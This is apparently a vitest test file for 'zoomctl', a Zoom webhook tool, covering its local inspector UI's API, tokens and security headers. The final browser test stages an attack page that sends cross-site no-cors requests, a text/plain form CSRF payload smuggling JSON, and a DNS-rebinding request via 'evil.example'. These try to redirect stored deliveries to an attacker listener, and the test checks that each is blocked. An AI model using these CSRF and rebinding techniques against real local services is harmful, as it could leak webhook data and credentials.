import {spawn} from 'node:child_process'
import {createServer, get as httpGet, type IncomingMessage, type ServerResponse} from 'node:http'
import type {AddressInfo} from 'node:net'
import {randomUUID} from 'node:crypto'
import {existsSync, mkdirSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {createInterface} from 'node:readline'

import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import {readRecord, recordLine} from '../../src/store/records.js'
import {startInspector} from '../../src/ui/server.js'
import {BIN, deliver, ISOLATED, readStore, runCli, SECRET, startServe, type ServeProcess, tempDir, waitFor} from '../helpers/cli.js'

const CHROMIUM = '/usr/bin/chromium'
const ARTIFACTS = join(import.meta.dirname, '../../test-artifacts')

/** The token an inspector's page holds, read from the page as its own script does. */
async function tokenOf(ui: string): Promise<string> {
  const html = await (await fetch(ui)).text()
  return /<meta name="zoomctl-token" content="([^"]+)">/.exec(html)?.[1] ?? ''
}

/** A request as the inspector's own page makes it: its token in the header, and its Origin on a POST. */
async function getJson<T>(url: string, init: RequestInit = {}): Promise<{status: number; body: T}> {
  const origin = new URL(url).origin
  const headers = {'x-zoomctl-token': tokens.get(origin) ?? (await tokenOf(`${origin}/`)), ...(init.method === 'POST' ? {origin} : {}), ...(init.headers as Record<string, string>)}
  const response = await fetch(url, {...init, headers})
  return {status: response.status, body: (await response.json()) as T}
}
const tokens = new Map<string, string>()

describe('the inspector API', () => {
  let serve: ServeProcess
  let ui: string
  beforeAll(async () => {
    serve = await startServe(['--ui', '--ui-port', '0'])
    ui = (JSON.parse(serve.lines[0]!) as {ui: string}).ui
    await runCli(['simulate', 'meeting.started', 'user.signed_in', '--url', serve.url])
    await runCli(['simulate', 'meeting.ended', '--url', serve.url, '--timestamp-offset', '-900'])
  })
  afterAll(async () => serve.stop())

  it('lists deliveries newest first, filters on the server, and shows one with its Elastic document', async () => {
    const {body} = await getJson<{deliveries: Array<{id: string; eventType: string; verdict: string}>}>(`${ui}api/deliveries`)
    expect(body.deliveries.map((entry) => [entry.eventType, entry.verdict])).toEqual([
      ['meeting.ended', 'refused'],
      ['user.signed_in', 'accepted'],
      ['meeting.started', 'accepted'],
    ])
    const refused = await getJson<{deliveries: unknown[]}>(`${ui}api/deliveries?verdict=refused`)
    expect(refused.body.deliveries).toHaveLength(1)
    // A forged delivery leaves no body in the store, but the inspector lists it from serve's rejection log.
    expect(await deliver(serve.url, '{"event":"meeting.deleted","payload":{}}', 'not-the-token')).toBe(401)
    await waitFor(async () => (await getJson<{deliveries: unknown[]}>(`${ui}api/deliveries?verdict=rejected`)).body.deliveries.length === 1, 10_000, 'the rejection listed')
    const rejected = await getJson<{deliveries: Array<{eventType: string; verdict: string; reason: string; from: string}>}>(`${ui}api/deliveries?verdict=rejected`)
    expect(rejected.body.deliveries[0]).toMatchObject({eventType: 'meeting.deleted', verdict: 'rejected', reason: 'signature-mismatch', from: expect.stringContaining('127.0.0.1')})
    const started = body.deliveries.find((entry) => entry.eventType === 'meeting.started')!
    const detail = await getJson<{document: {event: {action: string}}; checkedFields: string[]}>(`${ui}api/deliveries/${started.id}`)
    expect(detail.body.document.event.action).toBe('meeting.started')
    expect(detail.body.checkedFields).toEqual(expect.arrayContaining(['event.action', 'user.id']))
    const curl = await getJson<{curl: string}>(`${ui}api/deliveries/${started.id}/curl`)
    expect(curl.body.curl).toContain('x-zm-signature')
    expect(curl.body.curl).not.toContain(SECRET)
  })

  it('pages with the cursor it gives, and refuses one it did not give', async () => {
    type Page = {deliveries: Array<{eventType: string}>; next?: string}
    const first = await getJson<Page>(`${ui}api/deliveries?limit=2`)
    expect(first.body.deliveries.map((entry) => entry.eventType)).toEqual(['meeting.ended', 'user.signed_in'])
    const second = await getJson<Page>(`${ui}api/deliveries?limit=2&cursor=${first.body.next}`)
    expect(second.body.deliveries.map((entry) => entry.eventType)).toEqual(['meeting.started'])
    expect(second.body.next).toBeUndefined()
    const stats = await getJson<{counts: Record<string, number>}>(`${ui}api/stats`)
    expect(stats.body.counts).toMatchObject({accepted: 2, refused: 1})
    expect((await getJson(`${ui}api/deliveries?cursor=made-up`)).status).toBe(400)
  })

  it('exports what a filter selects as store lines, oldest first, bodies byte for byte', async () => {
    const token = await tokenOf(ui)
    const exported = await fetch(`${ui}api/export?token=${token}`)
    expect(exported.headers.get('content-type')).toBe('application/x-ndjson')
    const lines = (await exported.text()).trimEnd().split('\n')
    expect(lines.map((line) => readRecord(line).eventType)).toEqual(['meeting.started', 'user.signed_in', 'meeting.ended'])
    expect(lines.every((line) => line.includes('"v":2,"bodySize":'))).toBe(true)
    const stored = [...readStore(serve.dataDir), ...readStore(serve.dataDir, 'refused')]
    for (const line of lines) expect(readRecord(line).rawBody).toBe(stored.find((record) => record.id === readRecord(line).id)!.rawBody)
    const refused = (await (await fetch(`${ui}api/export?verdict=refused&token=${token}`)).text()).trimEnd().split('\n')
    expect(refused.map((line) => readRecord(line).refusal?.reason)).toEqual(['stale-timestamp'])
  })

  it('re-sends through replay: a new accepted delivery, marked as a copy', async () => {
    const before = readStore(serve.dataDir).length
    const {body} = await getJson<{deliveries: Array<{id: string; eventType: string}>}>(`${ui}api/deliveries?event=user.signed_in`)
    const resent = await getJson<{succeeded: number; copies: number}>(`${ui}api/resend`, {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify({ids: [body.deliveries[0]!.id]})})
    expect(resent.body).toMatchObject({succeeded: 1, copies: 1})
    const after = readStore(serve.dataDir)
    expect(after).toHaveLength(before + 1)
    expect(after[after.length - 1]!.duplicateOf).toBe(body.deliveries[0]!.id)
    const stats = await getJson<{counts: Record<string, number>}>(`${ui}api/stats`)
    expect(stats.body.counts).toMatchObject({accepted: 2, duplicate: 1, refused: 1})
  })

  it('exports every matching delivery, however many (not the latest 1,000)', async () => {
    const dataDir = tempDir()
    mkdirSync(join(dataDir, 'events'), {recursive: true})
    const lines = Array.from({length: 1_200}, (_, index) => {
      const receivedAt = new Date(Date.parse('2026-12-01T00:00:00Z') + index * 1000).toISOString()
      const body = Buffer.from(JSON.stringify({event: 'meeting.started', event_ts: index, payload: {account_id: 'a', object: {id: String(index)}}}))
      const meta = {id: randomUUID(), receivedAt, source: {address: '127.0.0.1'}, method: 'POST', path: '/zoom-webhook', headers: {}, eventType: 'meeting.started', dedupeKey: `k${index}`}
      return recordLine(meta, body, true)
    })
    writeFileSync(join(dataDir, 'events', '2026-12-01.ndjson'), Buffer.concat(lines))
    const inspector = await startInspector({host: '127.0.0.1', port: 0, dataDir, auth: {mode: 'signature', secretToken: SECRET}})
    try {
      const exported = (await (await fetch(`${inspector.url}api/export?token=${await tokenOf(inspector.url)}`)).text()).trimEnd().split('\n')
      expect(exported).toHaveLength(1_200)
      expect(readRecord(exported[0]!).receivedAt).toBe('2026-12-01T00:00:00.000Z')
    } finally {
      await inspector.close()
    }
  })

  it('zoomctl ui re-sends to a local serve signed with the token in the data dir it shows, and says at start where re-send goes', async () => {
    const dataDir = tempDir()
    const local = await startServe(['--data-dir', dataDir])
    // As a serve that made its own token keeps it (this one was given it, so it is written here by hand).
    writeFileSync(join(dataDir, 'secret-token'), `${SECRET}\n`, {mode: 0o600})
    await runCli(['simulate', 'meeting.started', '--url', local.url])
    const {ZOOM_WEBHOOK_SECRET_TOKEN: _given, ...withoutToken} = process.env
    const start = (args: string[]) => spawn(process.execPath, [BIN, 'ui', dataDir, '--ui-port', '0', '--json', ...args], {env: {...withoutToken, ...ISOLATED}, stdio: ['ignore', 'pipe', 'inherit']})
    const listeningOf = async (child: ReturnType<typeof start>) => JSON.parse(await new Promise<string>((resolve) => createInterface({input: child.stdout}).once('line', resolve))) as {url: string; resend: string}
    const withUrl = start(['--url', local.url])
    const bare = start([])
    try {
      const listening = await listeningOf(withUrl)
      expect(listening.resend).toBe(`to ${local.url}, signed with the token in ${join(dataDir, 'secret-token')}`)
      const {body} = await getJson<{deliveries: Array<{id: string}>}>(`${listening.url}api/deliveries`)
      const resent = await getJson<{succeeded: number}>(`${listening.url}api/resend`, {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify({ids: [body.deliveries[0]!.id]})})
      expect(resent.body).toMatchObject({succeeded: 1})
      expect((await listeningOf(bare)).resend).toBe('off: give --url (or ZOOMCTL_URL) to re-send')
    } finally {
      for (const child of [withUrl, bare]) {
        child.kill('SIGINT')
        await new Promise((resolve) => child.once('exit', resolve))
      }
      await local.stop()
    }
  })

  it('zoomctl ui reads the data dir serve was pointed at (ZOOMCTL_DATA_DIR) when none is named', async () => {
    const child = spawn(process.execPath, [BIN, 'ui', '--ui-port', '0', '--json'], {env: {...process.env, ...ISOLATED, ZOOMCTL_DATA_DIR: serve.dataDir}, stdio: ['ignore', 'pipe', 'inherit']})
    try {
      const line = await new Promise<string>((resolve) => createInterface({input: child.stdout}).once('line', resolve))
      const listening = JSON.parse(line) as {url: string; dataDir: string}
      expect(listening.dataDir).toBe(serve.dataDir)
      const stats = await getJson<{counts: Record<string, number>}>(`${listening.url}api/stats`)
      expect(stats.body.counts).toMatchObject({refused: 1})
    } finally {
      child.kill('SIGINT')
      await new Promise((resolve) => child.once('exit', resolve))
    }
    // A data dir that is not there yet is said, not shown as an empty store without a word.
    const early = spawn(process.execPath, [BIN, 'ui', join(tempDir(), 'not-yet'), '--ui-port', '0'], {env: {...process.env, ...ISOLATED, NO_COLOR: '1'}, stdio: ['ignore', 'ignore', 'pipe']})
    try {
      // The first line says which config file it read; the banner follows.
      const banner = await new Promise<string>((resolve) => createInterface({input: early.stderr}).on('line', (line) => !line.startsWith('config: ') && resolve(line)))
      expect(banner).toContain('not there yet: the page fills as serve stores deliveries there')
    } finally {
      early.kill('SIGINT')
      await new Promise((resolve) => early.once('exit', resolve))
    }
  })

  it('answers no request without its token, and none for a host name it does not serve; every answer carries the security headers', async () => {
    const inspector = await startInspector({host: '127.0.0.1', port: 0, dataDir: tempDir(), auth: {mode: 'signature', secretToken: SECRET}, token: 'the-token'})
    try {
      const origin = new URL(inspector.url).origin
      expect((await fetch(`${origin}/api/deliveries`)).status).toBe(401)
      expect((await fetch(`${origin}/api/deliveries`, {headers: {'x-zoomctl-token': 'the-token'}})).status).toBe(200)
      expect((await fetch(`${origin}/api/deliveries?token=the-token`)).status).toBe(200)
      // On loopback the page opens without it, and holds it; its URL does not carry it.
      const page = await fetch(`${origin}/`)
      expect(await page.text()).toContain('<meta name="zoomctl-token" content="the-token">')
      expect(inspector.url).not.toContain('token')
      for (const path of ['/', '/inspector.js', '/api/deliveries', '/api/nothing']) {
        const answer = await fetch(`${origin}${path}`)
        expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
        expect(answer.headers.get('x-frame-options')).toBe('DENY')
        expect(answer.headers.get('content-security-policy')).toContain("frame-ancestors 'none'")
        expect(answer.headers.get('content-security-policy')).not.toContain('unsafe-inline')
      }
      // What curl -H 'Host: evil.example' sends: a page of another site that re-pointed its name here.
      const rebound = await new Promise<{status: number; body: string}>((resolve, reject) => {
        const url = new URL(`${origin}/api/deliveries?token=the-token`)
        httpGet({host: url.hostname, port: url.port, path: url.pathname + url.search, headers: {host: `evil.example:${url.port}`}}, (response) => {
          let body = ''
          response.on('data', (chunk: Buffer) => (body += chunk.toString()))
          response.on('end', () => resolve({status: response.statusCode!, body}))
        }).on('error', reject)
      })
      expect(rebound.status).toBe(403)
      expect(rebound.body).toContain('does not answer to the host name')
    } finally {
      await inspector.close()
    }
  })
})

describe.skipIf(!existsSync(CHROMIUM))('the inspector page in a real browser', () => {
  it('shows a new delivery within a second, its document when selected, re-sends it, and explains a refusal', async () => {
    const {chromium} = await import('playwright-core')
    const serve = await startServe(['--ui', '--ui-port', '0'])
    const browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    })
    try {
      const page = await browser.newPage({viewport: {width: 1400, height: 900}})
      await page.goto((JSON.parse(serve.lines[0]!) as {ui: string}).ui)
      await page.getByText('live', {exact: true}).waitFor()
      await runCli(['simulate', 'meeting.participant_joined', '--url', serve.url])
      const row = page.locator('tbody tr', {hasText: 'meeting.participant_joined'})
      await row.waitFor({timeout: 1500})
      await row.click()
      await page.getByText("What Elastic's Zoom integration indexes").waitFor()
      await expect(page.locator('#detail .key', {hasText: 'event.action: "meeting.participant_joined"'}).count()).resolves.toBe(1)
      // What the highlighting means is said, and a row tells its day as well as its time.
      await page.locator('#detail .legend', {hasText: 'highlighted: the fields zoomctl validate checks for meeting.participant_joined'}).waitFor()
      await expect(row.locator('td').first().textContent()).resolves.toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}\.\d{3}$/)
      await page.getByRole('button', {name: 'Re-send (re-signed)'}).click()
      await page.getByText(/had it already \(kept as a copy, not indexed again\)/).waitFor()
      await page.locator('tbody tr', {hasText: 'duplicate'}).waitFor({timeout: 1500})

      await runCli(['simulate', 'meeting.ended', '--url', serve.url, '--timestamp-offset', '-900'])
      const refused = page.locator('tbody tr', {hasText: 'meeting.ended'})
      await refused.waitFor({timeout: 1500})
      await expect(refused.textContent()).resolves.toContain('stale-timestamp')
      await refused.click()
      await page.getByText(/→ .*zoomctl replay --from refused --id/).waitFor()
      // Its address names it: opened again (a reload, a shared link), the same delivery shows.
      const link = page.url()
      expect(new URL(link).hash).toMatch(/^#[0-9a-f-]{36}$/)
      const again = await browser.newPage({viewport: {width: 1400, height: 900}})
      await again.goto(link)
      await again.getByText(/→ .*zoomctl replay --from refused --id/).waitFor()
      // …and its row is the one highlighted in the list.
      await again.locator('tbody tr.selected', {hasText: 'meeting.ended'}).waitFor()
      await expect(again.locator('tbody tr.selected').count()).resolves.toBe(1)
      // Read back from the store, a row has no latency (serve measured it, the store does not keep it): a
      // muted "–" that says why, where the live page showed milliseconds.
      const stored = again.locator('tbody tr', {hasText: 'meeting.participant_joined'}).first().locator('td').nth(4)
      await expect(stored.textContent()).resolves.toBe('–')
      await expect(stored.getAttribute('title')).resolves.toContain('the store does not keep it')
      await expect(row.locator('td').nth(4).textContent()).resolves.toMatch(/ ms$/)
      await again.close()
      mkdirSync(ARTIFACTS, {recursive: true})
      await page.screenshot({path: join(ARTIFACTS, 'inspector.png'), fullPage: true})
    } finally {
      await browser.close()
      await serve.stop()
    }
  }, 120_000)
})

describe.skipIf(!existsSync(CHROMIUM))('a page of another site against the inspector, in a real browser', () => {
  it("cannot re-send, read, export or mint a curl line (no-cors fetch, a form, a rebound host name); the inspector's own page still can, without the receiver's credential to a typed URL", async () => {
    const {chromium} = await import('playwright-core')
    // The attacker's listener, where a stolen re-send would land, and the user's own second receiver.
    const stolen: string[] = []
    const typed: Array<Record<string, unknown>> = []
    const listener = await listenOn((request, body) => stolen.push(`${request.method} ${request.url} ${body.slice(0, 80)}`))
    const mine = await listenOn((request) => typed.push(request.headers))
    const auth = {ZOOMCTL_AUTH: 'bearer', ZOOMCTL_BEARER_TOKEN: 'the-real-bearer-credential'}
    const serve = await startServe(['--ui', '--ui-port', '0'], auth)
    const ui = (JSON.parse(serve.lines[0]!) as {ui: string}).ui
    const uiPort = new URL(ui).port
    await runCli(['simulate', 'meeting.started', '--url', serve.url], auth)
    const id = readStore(serve.dataDir)[0]!.id
    // The attacker's site, on another port of loopback (the case no browser's private-network rules stop).
    const site = await listenOn(() => undefined, (_request, response) => {
      response.writeHead(200, {'content-type': 'text/html'})
      response.end('<!doctype html><title>cat pictures</title>')
    })
    const browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--host-resolver-rules=MAP evil.example 127.0.0.1'],
    })
    try {
      const evil = await browser.newPage()
      await evil.goto(site.url)
      // 1. Cross-site, no-cors: the body is JSON, its type text/plain (a "simple" request, sent without a preflight).
      await evil.evaluate(
        async ({ui, id, to}) => {
          // The request goes out whatever the answer; the fetch rejects when the inspector's answer may not be read here (its Cross-Origin-Resource-Policy).
          const post = (ids: string[]) => fetch(`${ui}api/resend`, {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: JSON.stringify({ids, url: to})}).catch(() => undefined)
          await post([id])
          await post([id.slice(0, 4)])
          for (const path of ['api/deliveries', 'api/export', `api/deliveries/${id}`, `api/deliveries/${id}/curl?url=${encodeURIComponent(to)}`]) await fetch(ui + path, {mode: 'no-cors'}).catch(() => undefined)
        },
        {ui, id, to: `${listener.url}x`},
      )
      // 2. A form: enctype text/plain makes `name=value` a JSON body.
      await evil.setContent(`<form method="POST" enctype="text/plain" action="${ui}api/resend"><input name='{"ids":["${id}"],"url":"${listener.url}form","pad":"' value='"}'></form>`)
      await Promise.all([evil.waitForNavigation(), evil.evaluate('document.forms[0].submit()')])
      // 3. DNS rebinding: the attacker's name now points at 127.0.0.1, so its page is same-origin with whatever answers there.
      await evil.goto(`http://evil.example:${uiPort}/`)
      const rebound = await evil.evaluate(
        async ({id, to}) => {
          const answer = async (path: string, init?: RequestInit) => {
            const response = await fetch(path, init)
            return {status: response.status, text: await response.text()}
          }
          const page = await answer('/')
          const token = /zoomctl-token" content="([^"]+)"/.exec(page.text)?.[1] ?? ''
          const headers = {'content-type': 'application/json', 'x-zoomctl-token': token}
          return {
            page,
            list: await answer('/api/deliveries', {headers}),
            export: await answer(`/api/export?token=${token}`),
            curl: await answer(`/api/deliveries/${id}/curl?url=${encodeURIComponent(to)}`, {headers}),
            resend: await answer('/api/resend', {method: 'POST', headers, body: JSON.stringify({ids: [id], url: to})}),
          }
        },
        {id, to: `${listener.url}rebound`},
      )
      for (const [what, {status, text}] of Object.entries(rebound)) {
        expect({what, status}).toEqual({what, status: 403})
        expect(text).not.toContain(id)
      }
      expect(stolen).toEqual([])

      // The inspector's own page still lists, shows and re-sends; to a typed URL, signed but without the bearer credential.
      const own = await browser.newPage()
      await own.goto(ui)
      const row = own.locator('tbody tr', {hasText: 'meeting.started'})
      await row.click()
      await own.getByText("What Elastic's Zoom integration indexes").waitFor()
      await own.getByPlaceholder(/another URL/).fill(`${mine.url}typed`)
      const asked = new Promise<string>((resolve) => own.once('dialog', (dialog) => (resolve(dialog.message()), void dialog.accept())))
      await own.getByRole('button', {name: 'Re-send (re-signed)'}).click()
      await expect(asked).resolves.toContain(`to ${mine.url}typed`)
      await own.getByText(/signed only: the bearer credential configured for the receiver is not sent/).waitFor()
      expect(typed).toHaveLength(1)
      expect(typed[0]!['x-zm-signature']).toMatch(/^v0=/)
      expect(typed[0]!.authorization).toBeUndefined()
      expect(stolen).toEqual([])
    } finally {
      await browser.close()
      await serve.stop()
      await Promise.all([listener.close(), mine.close(), site.close()])
    }
  }, 120_000)
})

/** A loopback HTTP server for a test: `seen` gets each request and its body; `answer` writes the response (200 "ok" by default). */
async function listenOn(seen: (request: IncomingMessage, body: string) => void, answer?: (request: IncomingMessage, response: ServerResponse) => void): Promise<{url: string; close(): Promise<void>}> {
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk: Buffer) => (body += chunk.toString()))
    request.on('end', () => {
      seen(request, body)
      if (answer) answer(request, response)
      else response.end('ok')
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    close: async () => {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}
